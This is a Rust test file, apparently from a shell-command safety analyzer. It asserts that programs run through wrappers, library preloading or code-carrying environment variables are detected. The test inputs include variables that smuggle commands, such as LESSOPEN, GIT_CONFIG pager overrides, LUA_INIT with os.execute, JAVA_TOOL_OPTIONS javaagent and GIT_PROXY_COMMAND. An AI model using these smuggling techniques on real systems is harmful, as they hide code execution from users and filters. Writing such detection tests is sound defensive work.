        ("su-exec nobody curl x", "su-exec"),
        ("tini -- curl x", "tini"),
        ("dumb-init curl x", "dumb-init"),
        ("nocache curl x", "nocache"),
        ("torify curl x", "torify"),
        ("caffeinate -i curl x", "caffeinate"),
        ("systemd-inhibit --why=x curl x", "systemd-inhibit"),
        ("aa-exec -p unconfined -- curl x", "aa-exec"),
        ("hyperfine 'curl x'", "hyperfine"),
        ("hyperfine -w 3 --prepare 'curl x' 'sleep 1'", "hyperfine"),
        ("socat - SYSTEM:'curl x',pty", "socat"),
        ("socat TCP-LISTEN:8080 EXEC:'curl x'", "socat"),
        ("capsh --caps=cap_net_raw+ep -- -c 'curl x'", "capsh"),
    ] {
        let a = analyze(command).unwrap_or_else(|e| panic!("{command}: {e}"));
        let names = a.program_names();
        assert_eq!(names.first(), Some(&runner), "{command}");
        assert!(names.contains(&"curl"), "{command}: {names:?}");
        assert!(!a.dynamic, "{command}");
    }
}

#[test]
fn runners_that_load_code_or_run_it_from_files_are_dynamic() {
    for command in [
        "ld.so --preload ./x.so /bin/ls",
        "/lib64/ld-linux-x86-64.so.2 --library-path . /bin/ls",
        "trickle -P ./x.so -d 10 ls",
        "rlwrap curl x",
        "envdir ./env ls",
        "nix-shell -p curl --run 'curl x'",
        "nix develop -c curl x",
        "nix run nixpkgs#curl",
        "hyperfine -L tool curl,wget '{tool} x'",
        "hyperfine -S fish 'ls'",
        "socat - \"SYSTEM:curl 'x'\"",
        "perf stat curl x",
        "mosh host curl x",
    ] {
        assert!(dynamic(command), "{command}");
    }
    assert!(programs("nix-shell --run 'curl x'").contains(&"curl".to_owned()));
}

#[test]
fn variables_that_carry_code_in_the_environment_are_seen() {
    for command in [
        "LESSOPEN='|curl %s' less f",
        "LESSCLOSE='curl %s %s' less f",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='curl x' git log",
        "GIT_CONFIG_PARAMETERS=\"'core.pager'='curl x'\" git log",
        "GIT_CONFIG_GLOBAL=./evil git log",
        "GIT_EXEC_PATH=. git log",
        "BROWSER=curl xdg-open https://x",
        "JAVA_TOOL_OPTIONS=-javaagent:x.jar java -version",
        "_JAVA_OPTIONS=-javaagent:x.jar java -version",
        "PYTHONWARNINGS=ignore::evil.W pip list",
        "LUA_INIT='os.execute(\"curl x\")' luarocks list",
        "VIMINIT=':!curl x' vim f",
        "env GIT_CONFIG_KEY_0=core.pager git log",
    ] {
        assert!(dynamic(command), "{command}");
    }
    for (command, label) in [
        ("GIT_PROXY_COMMAND='curl x' git fetch", "GIT_PROXY_COMMAND="),
        ("SYSTEMD_PAGER='curl x' systemctl status", "SYSTEMD_PAGER="),
        ("RSYNC_RSH='curl x' rsync a b:c", "RSYNC_RSH="),
        ("FCEDIT='curl x' fc", "FCEDIT="),
    ] {
        let a = analyze(command).unwrap();
        assert_eq!(a.programs[0].program, "curl", "{command}");
        assert_eq!(a.programs[0].via, [label], "{command}");
    }
}
